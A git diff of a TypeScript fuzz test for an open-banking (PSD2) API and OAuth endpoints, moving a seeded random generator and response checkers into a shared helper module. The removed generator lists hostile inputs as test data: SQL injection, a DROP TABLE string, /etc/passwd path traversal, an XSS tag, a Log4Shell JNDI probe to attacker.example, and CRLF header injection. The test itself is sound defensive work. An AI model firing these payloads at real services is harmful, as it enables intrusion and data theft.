@@ -28,148 +28,29 @@ import { resolveRef } from '../../src/contract/resolve-ref.js';
 import { consentBody, validConsent } from '../support/ais-consent.js';
 import { startTestPlatform, type TestPlatform } from '../support/test-platform.js';
 import {
+  type Answer,
+  authorizeProblems,
+  checkCase,
+  fuzzCases,
+  fuzzSeed,
+  fuzzTimeoutMs,
+  Rng,
+  tokenEndpointProblems,
+  UUID,
+} from './fuzz-support.js';
+import {
   AIS,
-  bankRequestCount,
   CONSENTS,
   consentAwaitingRedirect,
   DECOUPLED_BANK,
   psd2,
-  storedState,
   TPP_REDIRECT,
   testTpp,
 } from './helpers.js';
 
-const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i;
-const CASES = Number(process.env.FUZZ_CASES ?? 1000);
-const SEED =
-  process.env.FUZZ_SEED === 'random'
-    ? Math.floor(Math.random() * 2 ** 31)
-    : Number(process.env.FUZZ_SEED ?? 20_240_607);
-/** Per case, generously: a slow machine, PostgreSQL, and a state snapshot around each request. */
-const TIMEOUT_MS = 60_000 + CASES * 100;
-
-// ---------------------------------------------------------------------------------------------
-// A seeded PRNG (mulberry32) and the values it draws.
-
-class Rng {
-  private state: number;
-
-  constructor(seed: number) {
-    this.state = seed >>> 0;
-  }
-
-  next(): number {
-    this.state = (this.state + 0x6d2b79f5) >>> 0;
-    let x = this.state;
-    x = Math.imul(x ^ (x >>> 15), x | 1);
-    x ^= x + Math.imul(x ^ (x >>> 7), x | 61);
-    return ((x ^ (x >>> 14)) >>> 0) / 4_294_967_296;
-  }
-
-  int(max: number): number {
-    return Math.floor(this.next() * max);
-  }
-
-  pick<T>(items: readonly T[]): T {
-    return items[this.int(items.length)] as T;
-  }
-
-  chance(p: number): boolean {
-    return this.next() < p;
-  }
-
-  /** A string an attacker or a broken client might send where text is expected. */
-  text(): string {
-    const kind = this.int(9);
-    switch (kind) {
-      case 0:
-        return this.pick(['', ' ', '\t', 'null', 'undefined', 'true', '0', '-1', '[]', '{}']);
-      case 1:
-        return this.pick([
-          "' OR 1=1 --",
-          '"; DROP TABLE consents; --',
-          '../../../../etc/passwd',
-          '<script>alert(1)</script>',
-          // biome-ignore lint/suspicious/noTemplateCurlyInString: the text of a Log4Shell probe
-          '${jndi:ldap://attacker.example/x}',
-          '{{7*7}}',
-          '%00',
-          '%E0%A4%A',
-          '\\u0000',
-          '__proto__',
-        ]);
-      case 2:
-        // Unicode: emoji, right-to-left override, zero-width, combining marks, look-alikes.
-        return this.pick([
-          '😀🏦',
-          '\u202Eevil',
-          'a\u200Bb',
-          'e\u0301\u0301\u0301',
-          'ſ',
-          'Ωμέγα',
-          '漢字',
-          'ǅ',
-        ]);
-      case 3:
-        return 'A'.repeat(this.pick([1, 35, 36, 37, 255, 256, 1024, 4096]));
-      case 4:
-        return this.pick([
-          '0',
-          '-0',
-          '1',
-          '-1',
-          '2147483648',
-          '9007199254740993',
-          '1e308',
-          '1e400',
-          'NaN',
-          'Infinity',
-          '0x10',
-          '1.5',
-        ]);
-      case 5:
-        return this.pick([
-          '2021-02-30',
-          '0000-00-00',
-          '9999-99-99',
-          '2021-1-1',
-          '+275760-09-13',
-          '1900-01-01',
-          '2999-12-31',
-          '2021-04-23T00:00:00Z',
-        ]);
-      case 6:
-        return this.pick([
-          randomUUID(),
-          randomUUID().toUpperCase(),
-          `{${randomUUID()}}`,
-          randomUUID().replaceAll('-', ''),
-          '00000000-0000-0000-0000-000000000000',
-          `${randomUUID()}\r\nX-Injected: 1`,
-        ]);
-      case 7:
-        return Array.from({ length: 1 + this.int(40) }, () =>
-          String.fromCharCode(32 + this.int(95)),
-        ).join('');
-      default:
-        return `${this.pick(['x', 'ü', '€', '\u0007'])}${this.int(1000)}`;
-    }
-  }
-
-  /** A JSON value of some type, for a field that expects another. */
-  jsonValue(): unknown {
-    return this.pick<() => unknown>([
-      () => null,
-      () => true,
-      () => this.pick([0, -1, 1.5, 2 ** 53 + 2, 1e308, -1e308]),
-      () => this.text(),
-      () => [],
-      () => [this.text()],
-      () => ({}),
-      () => ({ [this.text()]: this.text() }),
-    ])();
-  }
-}
+const CASES = fuzzCases(1000);
+const SEED = fuzzSeed();
+const TIMEOUT_MS = fuzzTimeoutMs(CASES);
 
 // ---------------------------------------------------------------------------------------------
 // The operations of the contract, with what a valid request to each needs.
@@ -237,23 +118,6 @@ const CODE_STATUSES: Record<string, number[]> = {
   ACCESS_EXCEEDED: [429],
 };
 
-const OAUTH_ERRORS = new Set([
-  'invalid_request',
-  'invalid_client',
-  'invalid_grant',
-  'unauthorized_client',
-  'unsupported_grant_type',
-  'invalid_scope',
-  // RFC 8707: a `resource` parameter that is no absolute URI.
-  'invalid_target',
-]);
-
-interface Answer {
-  statusCode: number;
-  headers: Record<string, unknown>;
-  body: string;
-}
-
 function psd2Problems(answer: Answer): string[] {
   const problems: string[] = [];
   if (answer.statusCode < 400 || answer.statusCode >= 500) {
@@ -288,38 +152,6 @@ function psd2Problems(answer: Answer): string[] {
   if (typeof message?.text !== 'string' || message.text === '') problems.push('no text');
   if (/\n\s+at |node_modules|\.ts:\d+/.test(answer.body)) problems.push('a stack trace');
   return problems;
-}
-
-function tokenEndpointProblems(answer: Answer): string[] {
-  const problems: string[] = [];
-  if (![400, 401, 405].includes(answer.statusCode)) problems.push(`status ${answer.statusCode}`);
-  if (answer.headers['cache-control'] !== 'no-store') problems.push('not no-store');
-  if (!String(answer.headers['content-type']).startsWith('application/json')) {
-    return [...problems, `content-type ${answer.headers['content-type']}`];
-  }
-  const body = JSON.parse(answer.body) as { error?: string; access_token?: string };
-  if (!OAUTH_ERRORS.has(body.error ?? '')) problems.push(`error ${body.error}`);
-  if (answer.statusCode === 401 && body.error !== 'invalid_client') {
-    problems.push(`401 with ${body.error}`);
-  }
-  if (body.access_token) problems.push('a token was issued');
-  return problems;
-}
-
-function authorizeProblems(answer: Answer): string[] {
-  if (answer.statusCode === 400) {
-    const page = String(answer.headers['content-type']).startsWith('text/html');
-    return page && answer.body.includes('<p>Error: <code>') ? [] : ['400 without the error page'];
-  }
-  if (answer.statusCode === 303 || answer.statusCode === 302) {
-    // In the query, or in the fragment for a response type that would put tokens there.
-    const location = String(answer.headers.location ?? '');
-    const [target, params] = location.split(/[?#]/, 2) as [string, string | undefined];
-    if (target !== TPP_REDIRECT) return [`redirected to ${location}`];
-    const error = new URLSearchParams(params ?? '').get('error');
-    return error ? [] : ['redirected to the TPP without an error'];
-  }
-  return [`status ${answer.statusCode}`];
 }
 
 // ---------------------------------------------------------------------------------------------
@@ -633,41 +465,6 @@ function describeRequest(request: Request): string {
   return JSON.stringify({ ...request, body: request.body?.slice(0, 300) });
 }
 
-/** Runs one case; the problems found, if any. */
-async function check(
-  send: () => Promise<Answer>,
-  problemsOf: (answer: Answer) => string[],
-): Promise<string[] | 'unsendable'> {
-  const before = await storedState(t);
-  const bankBefore = bankRequestCount(t);
-  let answer: Answer;
-  try {
-    answer = await send();
-  } catch (error) {
-    // light-my-request refuses what no HTTP client can send (a header with a line break).
-    if (
-      String(error).includes('Invalid character in header') ||
-      String(error).includes('ERR_INVALID_CHAR')
-    ) {
-      return 'unsendable';
-    }
-    throw error;
-  }
-  const problems = problemsOf(answer);
-  if (answer.statusCode >= 500)
-    problems.push(`a ${answer.statusCode}: ${answer.body.slice(0, 200)}`);
-  if (bankRequestCount(t) !== bankBefore) problems.push('the bank was called');
-  const after = await storedState(t);
-  for (const table of Object.keys(before)) {
-    if (JSON.stringify(before[table]) !== JSON.stringify(after[table])) {
-      problems.push(`stored state changed: ${table}`);
-    }
-  }
-  if (problems.length > 0)
-    problems.push(`answer ${answer.statusCode} ${answer.body.slice(0, 300)}`);
-  return problems;
-}
-
 describe(`fuzzing (${CASES} cases per family, seed ${SEED})`, () => {
   it(
     'every operation of the contract: never a 5xx, always tppMessages, no bank call, nothing stored',
@@ -690,7 +487,8 @@ describe(`fuzzing (${CASES} cases per family, seed ${SEED})`, () => {
         request.path = pathOf(operation, params, rng);
         const query = new URLSearchParams(request.query).toString();
         const url = `${request.path}${query ? `?${query}` : ''}`;
-        const result = await check(
+        const result = await checkCase(
+          t,
           () =>
             t.api.inject({
               method: request.method as 'GET',
@@ -800,7 +598,8 @@ describe(`fuzzing (${CASES} cases per family, seed ${SEED})`, () => {
         }
         if (rng.chance(0.3)) headers.accept = rng.pick(['text/html', 'application/xml', '*/*']);
         const payload = raw ?? new URLSearchParams(fields).toString();
-        const result = await check(
+        const result = await checkCase(
+          t,
           () =>
             t.auth.inject({
               method: method as 'POST',
@@ -874,7 +673,8 @@ describe(`fuzzing (${CASES} cases per family, seed ${SEED})`, () => {
             applied.push('other parameter');
           }
         }
-        const result = await check(
+        const result = await checkCase(
+          t,
           () =>
             t.auth.inject({
               method: 'GET',
